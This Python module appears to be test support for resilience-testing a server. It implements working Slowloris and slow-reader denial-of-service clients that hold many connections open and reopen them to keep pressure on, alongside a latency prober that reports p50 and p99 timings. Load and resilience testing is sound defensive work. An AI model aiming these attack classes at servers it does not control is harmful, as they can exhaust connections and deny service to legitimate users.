"""Real slow clients on raw sockets, and a prober that times requests made meanwhile.

- :class:`Slowloris`: N connections, each sending a request line and then one header line every
  ``interval`` seconds, never the blank line that ends the head. A connection the server closes
  is opened again at once (the attack keeps its pressure, as a real one does).
- :class:`SlowReaders`: M connections, each asking for a large response and then reading it a
  few bytes at a time, with a small receive buffer so the server's writes block early.
- :class:`Prober`: one request after another on fresh connections (as separate clients would),
  each with a timeout; a request that fails or times out counts as the timeout. ``p99`` is over
  every attempt.

All three run in background threads and stop on :meth:`stop`. Nothing here knows the broker:
they are given a host, a port and raw request bytes.
"""

from __future__ import annotations

import http.client
import math
import selectors
import socket
import threading
import time
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field


def percentile(samples: list[float], q: float) -> float:
    """The nearest-rank ``q`` percentile (0 < q <= 100) of ``samples``."""
    if not samples:
        raise ValueError("no samples")
    ordered = sorted(samples)
    rank = max(1, math.ceil(q / 100 * len(ordered)))
    return ordered[rank - 1]


def _connect(host: str, port: int, rcvbuf: int | None = None) -> socket.socket | None:
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    if rcvbuf is not None:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
    sock.settimeout(2)
    try:
        sock.connect((host, port))
    except OSError:
        sock.close()
        return None
    sock.setblocking(False)
    return sock


@dataclass
class Slowloris:
    """Many connections that drip header lines forever (see the module docstring)."""

    host: str
    port: int
    connections: int = 200
    interval: float = 2.0
    path: str = "/healthz"
    opened: int = 0  # connections opened in all (reopened ones included)
    _stop: threading.Event = field(default_factory=threading.Event)
    _thread: threading.Thread | None = None

    def start(self) -> Slowloris:
        self._thread = threading.Thread(target=self._run, name="slowloris", daemon=True)
        self._thread.start()
        return self

    def _open(self, selector: selectors.BaseSelector) -> None:
        sock = _connect(self.host, self.port)
        if sock is None:
            return
        try:
            sock.send(f"GET {self.path} HTTP/1.1\r\nHost: {self.host}\r\n".encode())
        except OSError:
            sock.close()
            return
        self.opened += 1
        selector.register(sock, selectors.EVENT_READ)

    def _run(self) -> None:
        selector = selectors.DefaultSelector()
        try:
            for _ in range(self.connections):
                if self._stop.is_set():
                    return
                self._open(selector)
            counter = 0
            while not self._stop.is_set():
                next_drip = time.monotonic() + self.interval
                while not self._stop.is_set() and time.monotonic() < next_drip:
                    for key, _ in selector.select(timeout=0.1):  # the server closed it, or answered (408)
                        self._drop(selector, key.fileobj)  # type: ignore[arg-type]
                counter += 1
                for key in list(selector.get_map().values()):
                    sock: socket.socket = key.fileobj  # type: ignore[assignment]
                    try:
                        sock.send(f"X-Drip-{counter}: {counter}\r\n".encode())
                    except OSError:
                        self._drop(selector, sock)
                while len(selector.get_map()) < self.connections and not self._stop.is_set():
                    before = len(selector.get_map())
                    self._open(selector)
                    if len(selector.get_map()) == before:
                        break  # cannot connect right now; try again at the next drip
        finally:
            for key in list(selector.get_map().values()):
                key.fileobj.close()  # type: ignore[union-attr]
            selector.close()

    @staticmethod
    def _drop(selector: selectors.BaseSelector, sock: socket.socket) -> None:
        selector.unregister(sock)
        sock.close()

    def stop(self) -> None:
        self._stop.set()
        if self._thread is not None:
            self._thread.join(timeout=10)


@dataclass
class SlowReaders:
    """Connections that read a large response a few bytes at a time (see the module docstring)."""

    host: str
    port: int
    request: bytes
    connections: int = 20
    bytes_per_read: int = 16
    interval: float = 0.5
    opened: int = 0
    received: int = 0
    _stop: threading.Event = field(default_factory=threading.Event)
    _thread: threading.Thread | None = None

    def start(self) -> SlowReaders:
        self._thread = threading.Thread(target=self._run, name="slow-readers", daemon=True)
        self._thread.start()
        return self

    def _open(self, socks: list[socket.socket]) -> None:
        sock = _connect(self.host, self.port, rcvbuf=4096)
        if sock is None:
            return
        sock.setblocking(True)
        sock.settimeout(2)
        try:
            sock.sendall(self.request)
        except OSError:
            sock.close()
            return
        sock.setblocking(False)
        self.opened += 1
        socks.append(sock)

    def _run(self) -> None:
        socks: list[socket.socket] = []
        try:
            for _ in range(self.connections):
                self._open(socks)
            while not self._stop.wait(self.interval):
                for sock in list(socks):
                    try:
                        data = sock.recv(self.bytes_per_read)
                    except BlockingIOError:
                        continue
                    except OSError:
                        data = b""
                    if not data:  # finished or cut: open another one
                        socks.remove(sock)
                        sock.close()
                        self._open(socks)
                    else:
                        self.received += len(data)
        finally:
            for sock in socks:
                sock.close()

    def stop(self) -> None:
        self._stop.set()
        if self._thread is not None:
            self._thread.join(timeout=10)


@dataclass
class Sample:
    """One probe: when it started (monotonic), how long it took, and its status (0: failed)."""

    at: float
    seconds: float
    status: int


@dataclass
class Prober:
    """Times ``GET path`` (with ``headers``) again and again on fresh connections."""

    host: str
    port: int
    path: str
    headers: Mapping[str, str] = field(default_factory=dict)
    timeout: float = 5.0
    pause: float = 0.05
    ok: Callable[[int], bool] = lambda status: status == 200
    samples: list[Sample] = field(default_factory=list)
    _stop: threading.Event = field(default_factory=threading.Event)
    _thread: threading.Thread | None = None

    def start(self) -> Prober:
        self._thread = threading.Thread(target=self._run, name=f"probe {self.path}", daemon=True)
        self._thread.start()
        return self

    def once(self) -> Sample:
        started = time.monotonic()
        status = 0
        conn = http.client.HTTPConnection(self.host, self.port, timeout=self.timeout)
        try:
            conn.request("GET", self.path, headers=dict(self.headers))
            response = conn.getresponse()
            response.read()
            status = response.status
        except OSError:
            status = 0
        finally:
            conn.close()
        elapsed = time.monotonic() - started
        if status == 0:
            elapsed = max(elapsed, self.timeout)
        return Sample(started, elapsed, status)

    def _run(self) -> None:
        while not self._stop.is_set():
            self.samples.append(self.once())
            self._stop.wait(self.pause)

    def stop(self) -> None:
        self._stop.set()
        if self._thread is not None:
            self._thread.join(timeout=self.timeout + 5)

    def p99(self) -> float:
        return percentile([s.seconds for s in self.samples], 99)

    def failures(self) -> list[Sample]:
        return [s for s in self.samples if not self.ok(s.status)]

    def summary(self) -> str:
        times = [s.seconds for s in self.samples]
        if not times:
            return f"{self.path}: no samples"
        return (
            f"{self.path}: n={len(times)} p50={percentile(times, 50) * 1000:.0f}ms "
            f"p99={percentile(times, 99) * 1000:.0f}ms max={max(times) * 1000:.0f}ms "
            f"failed={len(self.failures())} statuses={sorted({s.status for s in self.samples})}"
        )
